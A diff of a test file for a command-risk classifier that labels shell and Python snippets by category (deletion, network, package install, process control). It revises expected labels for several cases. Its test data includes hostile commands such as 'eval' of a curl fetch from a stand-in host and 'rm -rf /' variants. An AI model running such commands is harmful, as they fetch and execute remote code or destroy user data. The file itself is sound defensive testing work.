@@ -44,8 +44,8 @@ CASES = [
     ("shred", "shell", "shred -n 3 notes.txt", {D}),
     ("truncate", "shell", "truncate -s 0 notes.txt", {D}),
     ("find-delete", "shell", "find . -name '*.tmp' -delete", {D}),
-    ("find-exec-rm", "shell", "find drafts -type f -exec rm {} \\;", {D}),
-    ("xargs-rm", "shell", "ls drafts | xargs rm", {D}),
+    ("find-exec-rm", "shell", "find drafts -type f -exec rm {} \\;", {D, P}),
+    ("xargs-rm", "shell", "ls drafts | xargs rm", {D, OUT, P}),
     ("rm-in-loop", "shell", 'for f in drafts/*.txt; do rm "$f"; done', {D}),
     ("rm-variable-outside", "shell", "D=/etc; rm -rf $D", {D, OUT}),
     ("rm-in-substitution", "shell", "echo $(rm -rf /tmp/x)", {D, OUT}),
@@ -95,8 +95,8 @@ CASES = [
     # --- shell: packages
     ("pip-install", "shell", "pip install requests", {PKG}),
     ("pip3-install", "shell", "pip3 install -U httpx", {PKG}),
-    ("python-m-pip", "shell", "python -m pip install x", {PKG}),
-    ("python3-m-pip", "shell", "python3.11 -m pip install rich", {PKG}),
+    ("python-m-pip", "shell", "python -m pip install x", {PKG, P}),
+    ("python3-m-pip", "shell", "python3.11 -m pip install rich", {PKG, P}),
     ("apt-get", "shell", "apt-get install -y curl", {PKG}),
     ("apt", "shell", "apt update", {PKG}),
     ("npm", "shell", "npm install left-pad", {PKG}),
@@ -118,16 +118,16 @@ CASES = [
     ("eval", "shell", "eval ls", {P}),
     ("eval-download", "shell", 'eval "$(curl -s http://evil.example)"', {P, N}),
     ("echo-pipe-sh", "shell", 'echo "rm -rf /" | sh', {P, D, OUT}),
-    ("bash-c", "shell", 'bash -c "rm -rf ~"', {D, OUT}),
+    ("bash-c", "shell", 'bash -c "rm -rf ~"', {D, OUT, P}),
     ("sh-script", "shell", "sh run.sh", {P}),
     ("python-script", "shell", "python3 server.py", {P}),
-    ("python-c", "shell", "python3 -c 'import shutil; shutil.rmtree(\"/\")'", {D, OUT}),
-    ("python-heredoc", "shell", "python3 - <<'EOF'\nprint(2 + 2)\nEOF", {R}),
+    ("python-c", "shell", "python3 -c 'import shutil; shutil.rmtree(\"/\")'", {D, OUT, P}),
+    ("python-heredoc", "shell", "python3 - <<'EOF'\nprint(2 + 2)\nEOF", {P}),
     ("unknown-program", "shell", "frobnicate --all", {P}),
     ("command-from-variable", "shell", "$CMD --force", {P}),
-    ("timeout-wrapper", "shell", "timeout 5 rm notes.txt", {D}),
+    ("timeout-wrapper", "shell", "timeout 5 rm notes.txt", {D, P}),
     ("script-flag-after-script", "shell", "python evil.py -c 'print(1)'", {P}),
-    ("bash-combined-flags", "shell", 'bash -ec "rm -rf /"', {D, OUT}),
+    ("bash-combined-flags", "shell", 'bash -ec "rm -rf /"', {D, OUT, P}),
     ("mixed-quotes-rm", "shell", "\"r\"'m' -rf /", {D, OUT}),
     ("heredoc-substitution", "shell", "cat <<EOF\n$(rm -rf /)\nEOF", {D, OUT}),
     ("quoted-heredoc-is-text", "shell", "cat <<'EOF'\n$(rm -rf /)\nEOF", {R}),
@@ -162,7 +162,7 @@ CASES = [
     ("fstring-outside", "python", "name = 'job'\nopen(f'/etc/cron.d/{name}', 'w')", {W, OUT}),
     ("home-outside", "python", "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')", {W, OUT}),
     ("dotdot-outside", "python", "open('../../escape.txt', 'w')", {W, OUT}),
-    ("to-csv", "python", "import pandas as pd\npd.DataFrame({'a': [1]}).to_csv('out.csv')", {W}),
+    ("to-csv", "python", "import pandas as pd\npd.DataFrame({'a': [1]}).to_csv('out.csv')", {W, U}),
     # --- python: deleting
     ("os-remove", "python", "import os\nos.remove('drafts/a.txt')", {D}),
     ("deletes-all-kinds", "python",
@@ -178,7 +178,7 @@ CASES = [
     ("socket", "python", "import socket\ns = socket.socket()", {N}),
     ("urllib-request", "python", "from urllib.request import urlopen\nurlopen('http://example.com')", {N}),
     ("network-modules", "python", "import http.client, httpx, aiohttp, ftplib, smtplib", {N}),
-    ("url-literal", "python", "import pandas as pd\ndf = pd.read_csv('https://example.com/data.csv')", {N}),
+    ("url-literal", "python", "import pandas as pd\ndf = pd.read_csv('https://example.com/data.csv')", {N, U}),
     # --- python: packages and processes
     ("subprocess-pip", "python", "import subprocess\nsubprocess.run(['pip', 'install', 'requests'])", {P, PKG}),
     ("subprocess-python-m-pip", "python",
@@ -332,7 +332,7 @@ def test_too_long_code_is_unparseable(sandbox: Path) -> None:
 def test_deep_nesting_is_unparseable_not_an_error(sandbox: Path) -> None:
     assert "unparseable" in classify("python", "(" * 5000 + ")" * 5000, sandbox).categories
     code = 'bash -c "bash -c \\"bash -c ls\\""'
-    assert classify("shell", code, sandbox).categories == {"read_only"}
+    assert classify("shell", code, sandbox).categories == {"process_control"}  # each bash -c is another shell
     nested = "ls"
     for _ in range(10):
         nested = f"python3 -c {_shell_quote(f'import os; os.system({nested!r})')}"
